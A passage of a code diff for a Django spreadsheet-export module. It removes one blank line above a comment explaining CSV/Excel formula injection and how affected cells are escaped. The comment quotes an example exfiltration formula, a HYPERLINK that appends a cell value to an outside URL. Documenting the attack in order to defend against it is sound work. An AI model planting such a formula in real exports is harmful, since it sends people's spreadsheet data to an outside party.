@@ -13,7 +13,6 @@ from django.http import HttpResponse, StreamingHttpResponse
 from openpyxl import Workbook
 from openpyxl.styles import Font
 
-
 # Formula injection (CSV/Excel): a cell starting with = + - @ (or a tab or carriage return before one) is run
 # as a formula by spreadsheet programs: ``=HYPERLINK("http://…"&A1,"点击")`` sends the row away. Such text is
 # written with a leading apostrophe (shown as text); plain numbers like -12.5 stay numbers. Control
